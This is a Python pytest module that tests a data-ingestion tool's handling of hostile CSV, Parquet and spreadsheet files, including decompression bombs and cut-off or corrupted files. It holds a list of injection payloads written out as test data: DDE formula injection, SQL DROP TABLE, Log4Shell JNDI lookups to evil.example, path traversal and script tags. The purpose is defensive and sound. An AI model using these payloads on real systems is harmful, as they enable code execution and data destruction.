# SPDX-License-Identifier: Apache-2.0
"""Hostile content in every kind of file: nothing breaks, and nothing of it is told."""

from __future__ import annotations

import contextlib
import csv
import datetime
import gzip
import json
import tracemalloc
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any, TypeAlias

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from accord.agent.intake.codes import Reason
from accord.agent.intake.ingest import check, ingest
from accord.agent.intake.report import Report
from accord.agent.sources import encoding
from accord.agent.sources.csv_file import open_csv
from accord.agent.sources.form import SourceForm
from accord.core.document import DocumentError
from accord.core.errors import AccordError, SourceError
from tests.unit.agent.agencies import (
    HEADER,
    LIMITS,
    MAPPING_TEXT,
    MODEL_TEXT,
    NOW,
    mapping,
    new_state,
    row,
    store_bytes,
    write_csv,
)
from tests.unit.agent.command import Command
from tests.unit.agent.workbooks import WRITERS, with_part

MARK = "Zwq7"
"""Is in every hostile text, and must be in nothing that is said."""

HOSTILE = (
    f"=cmd|' /C calc'!{MARK}",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"+1+{MARK}",
    f"-2+{MARK}",
    f"@SUM({MARK})",
    f"' OR 1=1 -- {MARK}",
    f"'); DROP TABLE raw; -- {MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"{{{{7*7}}}}{MARK}",
    f"%s%n%x{MARK}",
    f"$path $blanks ? :x {MARK}",
    f"\ufeff{MARK}",
    f"שרה {MARK}",
    f"\u202e{MARK}\u202c",
    f"{MARK}\u0301\u0323",
    f"\U0001f9d1\u200d\U0001f680{MARK}",
    f"[red]{MARK}[/red]",
    f"\x1b[2J\x1b[31m{MARK}",
    f"{MARK}\u2028\u2029\x85",
    f'"{MARK}"',
    f"{MARK};,|\t",
    f"../../{MARK}",
    f"{MARK}\\N\\x00\\",
    "<script>alert('" + MARK + "')</script>",
    MARK * 8000,
)

DATES = ("0001-01-01", "2024-02-31", "9999-12-31", "-0001-01-01", "2024-13-01", MARK)

Rows = Sequence[Mapping[str, str]]


def _parquet(path: Path, rows: Rows) -> Path:
    columns = {name: [each[name] for each in rows] for name in HEADER}
    pq.write_table(pa.table(columns), path)
    return path


def _workbook(ending: str) -> Callable[[Path, Rows], Path]:
    def write(path: Path, rows: Rows) -> Path:
        listed = [[each[name] for name in HEADER] for each in rows]
        return WRITERS[ending](path, {"s": [[*HEADER], *listed]})

    return write


FILES: Mapping[str, Callable[[Path, Rows], Path]] = {
    "csv": write_csv,
    "parquet": _parquet,
    "xlsx": _workbook(".xlsx"),
    "xlsb": _workbook(".xlsb"),
    "xls": _workbook(".xls"),
    "ods": _workbook(".ods"),
}


@pytest.fixture
def command(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Command:
    return Command(monkeypatch, capsys)


def usual(text: str, kind: str) -> bool:
    """Return whether the form can hold the text as it is."""
    # XML has no escapes, and readers of UTF-16 take a first mark away.
    if kind in {"xlsx", "ods"}:
        return "\x1b" not in text and (kind == "xlsx" or text == text.strip())
    return kind not in {"xls", "xlsb"} or not text.startswith("\ufeff")


def told(report: Report) -> str:
    return json.dumps(report.as_json(), ensure_ascii=False)


@pytest.mark.parametrize("kind", FILES)
def test_names_are_names_whatever_they_hold(tmp_path: Path, kind: str) -> None:
    """Every hostile text is a person, the same one in each kind of file."""
    names = [text for text in HOSTILE if usual(text, kind)]
    rows = [row(first=text, number=f"'{at}\"") for at, text in enumerate(names)]
    state, other = new_state(tmp_path / "a"), new_state(tmp_path / "b")
    path = FILES[kind](tmp_path / f"a.{kind}", rows)
    done = ingest(state, mapping(), [path], LIMITS, NOW)
    assert (done.report.kept, done.report.refused) == (len(names), 0)
    assert MARK not in told(done.report)
    ingest(other, mapping(), [write_csv(tmp_path / "b.csv", rows)], LIMITS, NOW)
    assert store_bytes(state) == store_bytes(other)


@pytest.mark.parametrize("kind", FILES)
def test_codes_that_are_none_are_counted_and_not_told(
    tmp_path: Path, kind: str, command: Command
) -> None:
    texts = [text for text in HOSTILE if usual(text, kind)]
    rows = [row(number=str(at), region=text) for at, text in enumerate(texts)]
    rows += [row(number=f"t{at}", type=text) for at, text in enumerate(texts)]
    rows += [row(number=f"q{at}", days=text) for at, text in enumerate(texts)]
    rows += [row(number=f"d{at}", date=text) for at, text in enumerate(DATES)]
    rows += [row(number=f"b{at}", born=text) for at, text in enumerate(DATES)]
    path = FILES[kind](tmp_path / f"a.{kind}", [row(), *rows])
    state = new_state(tmp_path / "state")
    report = check(state, mapping(), [path], LIMITS)
    assert report.read == len(rows) + 1
    assert report.kept == 1
    assert report.refusals["region", Reason.OUT_OF_DOMAIN].rows == len(texts)
    assert report.refusals["exploitation_type", Reason.OUT_OF_DOMAIN].rows == len(texts)
    assert report.refusals["days", Reason.NOT_A_NUMBER].rows == len(texts)
    assert MARK not in told(report)
    (tmp_path / "m.yaml").write_text(MAPPING_TEXT, encoding="utf-8")
    (tmp_path / "model.yaml").write_text(MODEL_TEXT, encoding="utf-8")
    for extra in ((), ("--json",)):
        said = command(
            *("check", path, "--mapping", tmp_path / "m.yaml"),
            *("--model", tmp_path / "model.yaml", "--state", state.root, *extra),
        )
        assert said.status == 0, said.stderr
        assert MARK not in said.stdout + said.stderr
        assert "\x1b" not in said.stdout


@pytest.mark.parametrize("kind", FILES)
def test_hostile_names_of_columns_stay_names(tmp_path: Path, kind: str) -> None:
    name = "x\"'); DROP TABLE raw; --"
    rows = [dict(zip(HEADER, row().values(), strict=True))]
    path = tmp_path / f"a.{kind}"
    header = [name if each == "region" else each for each in HEADER]
    if kind == "csv":
        with path.open("w", newline="", encoding="utf-8") as file:
            csv.writer(file).writerows([header, list(rows[0].values())])
    elif kind == "parquet":
        fields = dict(zip(header, rows[0].values(), strict=True))
        pq.write_table(pa.table({k: pa.array([v]) for k, v in fields.items()}), path)
    else:
        WRITERS[f".{kind}"](path, {"s": [header, list(rows[0].values())]})
    quoted = json.dumps(name)
    text = MAPPING_TEXT.replace("column: region", f"column: {quoted}")
    assert check(new_state(tmp_path / "s"), mapping(text), [path], LIMITS).kept == 1


def complaint(tmp_path: Path, path: Path) -> AccordError:
    state = new_state(tmp_path / "state")
    with pytest.raises(AccordError) as caught:
        check(state, mapping(), [path], LIMITS)
    assert not list(state.scratch.iterdir())
    assert MARK not in str(caught.value)
    return caught.value


HEAD = ",".join(HEADER)
LINE = ",".join(row().values())


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (f"{HEAD}\n{LINE}\0{MARK}\n", "line 2: there is a NUL"),
        (f"{HEAD}\n{LINE}{'x' * (10 << 20)}{MARK}\n", "line 2: a field has more than"),
        (f'{HEAD}\n{LINE}\n"{MARK}{"y" * (3 << 20)}', "line 3: a field has more than"),
        (f"{HEAD}\n" + ("z" * 900_000 + ",") * 8 + "x\n", "line 2: a field has more"),
        (f"{HEAD}\n{LINE},{MARK}\n", "line 2"),
        ("x" * (5 << 20), "header is too long"),
        ("," * 20_000, "more than 16384 columns"),
        ("a," * 20_000 + f"\n{MARK}", "more than 16384 columns"),
        (f"{LINE}{MARK}\n{LINE}\n", "none of the mapping's columns"),
        ("\n" * 5000, "is empty"),
        ('"' * 4001, "a quote in the header"),
    ],
)
def test_a_hostile_csv_file_gets_a_sentence(
    tmp_path: Path, content: str, sentence: str
) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(content.encode())
    assert sentence in str(complaint(tmp_path, path))


def test_a_line_that_never_ends_is_not_read_into_memory(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"a" * (96 << 20))
    tracemalloc.start()
    try:
        with pytest.raises(SourceError, match="header is too long"):
            open_csv(path, SourceForm(), tmp_path / "copy.csv")
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 48 << 20


def test_a_packed_file_that_unpacks_without_end_is_given_up_early(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(encoding, "_ALWAYS", 4 << 20)
    path = tmp_path / "a.csv.gz"
    content = f"{HEAD}\n".encode() + f"{LINE}{MARK}\n".encode() * (1 << 20)
    # Members after the first count as well.
    path.write_bytes(gzip.compress(content[: 1 << 20]) + gzip.compress(content))
    copy = tmp_path / "copy.csv"
    with pytest.raises(SourceError, match="more than 200 times its size") as caught:
        open_csv(path, SourceForm(), copy)
    assert (caught.value.reason, MARK in str(caught.value)) == (
        "SOURCE_MALFORMED",
        False,
    )
    assert copy.stat().st_size < 200 * path.stat().st_size + (4 << 20) < len(content)
    assert MARK not in str(complaint(tmp_path, path))


def test_a_packed_file_that_is_small_may_be_much_alike(tmp_path: Path) -> None:
    path = tmp_path / "a.csv.gz"
    content = f"{HEAD}\n{LINE}\n".encode() + f"{LINE}\n".encode() * 100_000
    path.write_bytes(gzip.compress(content))
    assert len(content) > 200 * path.stat().st_size
    open_csv(path, SourceForm(), tmp_path / "copy.csv")
    assert (tmp_path / "copy.csv").read_bytes() == content


@pytest.mark.parametrize("name", ["a.csv.gz", "a.csv"])
def test_a_copy_leaves_room_for_the_ledger(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(encoding, "LEAST_FREE", 1 << 62)
    path = tmp_path / name
    content = f"{HEAD}\n{LINE}{MARK}\n"
    if name.endswith(".gz"):
        path.write_bytes(gzip.compress(content.encode()))
    else:
        path.write_bytes(content.encode("utf-16"))
    found = complaint(tmp_path, path)
    assert found.reason == "STORE_NOT_WRITABLE"
    assert "has to be copied" in str(found)
    assert MARK not in str(found)


@pytest.mark.parametrize("form", [SourceForm(), SourceForm(encoding="mac-roman")])
def test_a_disk_that_reads_no_more_is_that_of_the_source(
    tmp_path: Path, form: SourceForm
) -> None:
    broken = Path("/proc/self/mem")  # its first byte cannot be read
    if not broken.exists():
        pytest.skip("only Linux has such a file")
    (tmp_path / "a.csv").symlink_to(broken)
    with pytest.raises(SourceError, match="cannot be read to its end") as caught:
        open_csv(tmp_path / "a.csv", form, tmp_path / "copy.csv")
    assert caught.value.reason == "SOURCE_UNREADABLE"


def test_mixed_encodings_are_found_with_their_line(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    lines = [HEAD, LINE, f"Núñez{MARK},{LINE}"]
    content = "\n".join(lines).encode() + f"\nNúñez{MARK},".encode("latin-1")
    path.write_bytes(content)
    assert "line 4: this is not UTF-8" in str(complaint(tmp_path, path))


def test_a_byte_order_mark_within_the_file_is_a_character(tmp_path: Path) -> None:
    rows = [row(), row(number="2", region="\ufeffnorth")]
    path = write_csv(tmp_path / "a.csv", rows, encoding="utf-8-sig")
    report = check(new_state(tmp_path / "s"), mapping(), [path], LIMITS)
    assert (report.kept, report.refused) == (1, 1)


Values: TypeAlias = "pa.Array[Any]"


def columns(**changed: Values) -> pa.Table:
    plain: dict[str, Values] = {name: pa.array([text]) for name, text in row().items()}
    return pa.table(plain | changed)


@pytest.mark.parametrize(
    "values",
    [
        pa.array([[MARK]]),
        pa.array([{"x": MARK}]),
        pa.array([[("k", MARK)]], pa.map_(pa.string(), pa.string())),
        pa.array([[[MARK]]]),
        pa.array([MARK.encode() + b"\xff\0"]),
        pa.array([["a", "b", "c"]], pa.list_(pa.string(), 3)),
    ],
)
def test_parquet_columns_of_no_single_values_are_refused(
    tmp_path: Path, values: Values
) -> None:
    path = tmp_path / "a.parquet"
    pq.write_table(columns(region=values), path)
    assert "'region' holds lists, structures or" in str(complaint(tmp_path, path))
    # What is not named is not read.
    pq.write_table(columns(notes=values), path)
    assert check(new_state(tmp_path / "s"), mapping(), [path], LIMITS).kept == 1


def test_a_nul_in_parquet_leaves_its_row_out(tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    rows = [row(), row(number="2", first=f"{MARK}\0"), row(number="3\0")]
    report = check(new_state(tmp_path / "s"), mapping(), [_parquet(path, rows)], LIMITS)
    assert (report.kept, report.refused) == (1, 2)
    assert report.rows_named(report.refusals["", Reason.UNREADABLE]) == "2, 3"


def test_parquet_types_are_read_as_other_files_write_them(tmp_path: Path) -> None:
    first, second = new_state(tmp_path / "a"), new_state(tmp_path / "b")
    moment = datetime.datetime(2024, 2, 3, 23, 30, tzinfo=datetime.UTC)
    path = tmp_path / "a.parquet"
    pq.write_table(
        columns(
            number=pa.array([1.0]),
            born=pa.array([datetime.date(2000, 5, 1)]),
            date=pa.array([moment], pa.timestamp("us", tz="Asia/Tokyo")),
            days=pa.array([10], pa.decimal128(10, 2)),
            region=pa.array(["north"]).dictionary_encode(),
            notes=pa.array([float("nan")]),
        ),
        path,
    )
    ingest(first, mapping(), [path], LIMITS, NOW)
    ingest(second, mapping(), [write_csv(tmp_path / "b.csv", [row()])], LIMITS, NOW)
    assert store_bytes(first) == store_bytes(second)


def test_a_parquet_column_may_be_called_like_one_of_ours(tmp_path: Path) -> None:
    """Its blanks are cut off before it is asked whether it names a person."""
    path = tmp_path / "a.parquet"
    renamed = {"s0": pa.array([" "]), "s1": pa.array([" "]), "s2": pa.array(["\t"])}
    pq.write_table(columns(**renamed), path)
    text = MAPPING_TEXT.replace("[first, last, born]", "[s0, s1, s2]")
    report = check(new_state(tmp_path / "s"), mapping(text), [path], LIMITS)
    assert report.refusals["", Reason.NO_PERSON].rows == 1


@pytest.mark.parametrize("kind", ["csv", "parquet", "xlsx"])
def test_ten_thousand_columns_are_read_past(tmp_path: Path, kind: str) -> None:
    more = {f"m{number}": MARK for number in range(10_000)}
    path = tmp_path / f"a.{kind}"
    if kind == "csv":
        write_csv(path, [row() | more], [*HEADER, *more])
    elif kind == "parquet":
        pq.write_table(pa.table({k: [v] for k, v in (row() | more).items()}), path)
    else:
        cells = row() | more
        WRITERS[".xlsx"](path, {"s": [list(cells), list(cells.values())]})
    assert check(new_state(tmp_path / "s"), mapping(), [path], LIMITS).kept == 1


@pytest.mark.parametrize("kind", ["parquet", "xlsx"])
def test_a_cell_of_ten_megabytes_is_a_text(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"a.{kind}"
    huge = MARK * (10 << 18)
    if kind == "parquet":
        pq.write_table(columns(first=pa.array([huge]), region=pa.array([huge])), path)
    else:
        FILES[kind](path, [row(first="@", region="@")])
        with zipfile.ZipFile(path) as file:
            texts = file.read("xl/sharedStrings.xml")
        with_part(path, "xl/sharedStrings.xml", texts.replace(b"@", huge.encode()))
    report = check(new_state(tmp_path / "s"), mapping(), [path], LIMITS)
    assert report.refusals["region", Reason.OUT_OF_DOMAIN].rows == report.read == 1
    assert MARK not in told(report)


@pytest.mark.parametrize("cut", [4, 100, 0.5, 0.9])
@pytest.mark.parametrize("kind", [kind for kind in FILES if kind != "csv"])
def test_a_file_that_was_cut_off_is_damaged(
    tmp_path: Path, kind: str, cut: float
) -> None:
    rows = [row(number=str(at), notes=f"{MARK}{at}") for at in range(50)]
    path = FILES[kind](tmp_path / f"a.{kind}", rows)
    content = path.read_bytes()
    size = int(cut) if cut > 1 else int(len(content) * cut)
    path.write_bytes(content[:size])
    found = complaint(tmp_path, path)
    assert isinstance(found, SourceError)


@pytest.mark.parametrize("kind", [kind for kind in FILES if kind != "csv"])
def test_flipped_bytes_are_a_sentence_or_other_values(
    tmp_path: Path, kind: str
) -> None:
    rows = [row(number=str(at)) for at in range(20)]
    path = FILES[kind](tmp_path / f"a.{kind}", rows)
    content = bytearray(path.read_bytes())
    chance = np.random.default_rng(7)
    state = new_state(tmp_path / "state")
    for _ in range(12):
        changed = bytearray(content)
        for at in chance.integers(0, len(content), 8):
            changed[at] ^= 1 << int(chance.integers(0, 8))
        path.write_bytes(bytes(changed))
        # Only an error of the source may come, never one of ours.
        with contextlib.suppress(SourceError, DocumentError):
            check(state, mapping(), [path], LIMITS)
